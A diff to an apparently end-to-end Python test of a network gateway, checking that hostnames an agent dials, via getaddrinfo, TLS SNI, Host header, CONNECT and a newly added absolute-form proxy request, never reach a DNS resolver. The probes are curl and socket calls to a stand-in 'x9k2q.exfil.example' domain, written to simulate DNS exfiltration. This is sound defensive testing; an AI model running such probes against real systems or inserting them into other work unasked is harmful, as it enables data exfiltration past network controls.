@@ -169,12 +169,14 @@ def test_no_query_reaches_any_resolver(trapped_gateway):
          "try: print(socket.getaddrinfo('gai.x9k2q.exfil.example', 443))\n"
          "except OSError as e: print('failed', e)\"",
          # Names the gateway gets from the agent for an address dialed by number: a TLS server
-         # name, a Host header (both to the transparent listener), a CONNECT (forward proxy).
+         # name, a Host header (both to the transparent listener), a CONNECT and an absolute-form
+         # request (forward proxy).
          "echo '=== sni'; curl -sS --noproxy '*' --max-time 10 --resolve "
          "sni.x9k2q.exfil.example:443:192.0.2.99 https://sni.x9k2q.exfil.example/ 2>&1",
          "echo '=== host'; curl -sS --noproxy '*' --max-time 10 -H "
          "'Host: host.x9k2q.exfil.example' http://192.0.2.99/ 2>&1",
          "echo '=== connect'; curl -sS --max-time 10 https://connect.x9k2q.exfil.example/ 2>&1",
+         "echo '=== absolute'; curl -sS --max-time 10 http://absolute.x9k2q.exfil.example/ 2>&1",
          "echo '=== end'"])
     project = pathlib.Path(tempfile.mkdtemp(prefix="dns-", dir=e2e_root()))
     proc = subprocess.run([BIN, "run", "--config", str(gw.config), "--", "bash", "-c", script],
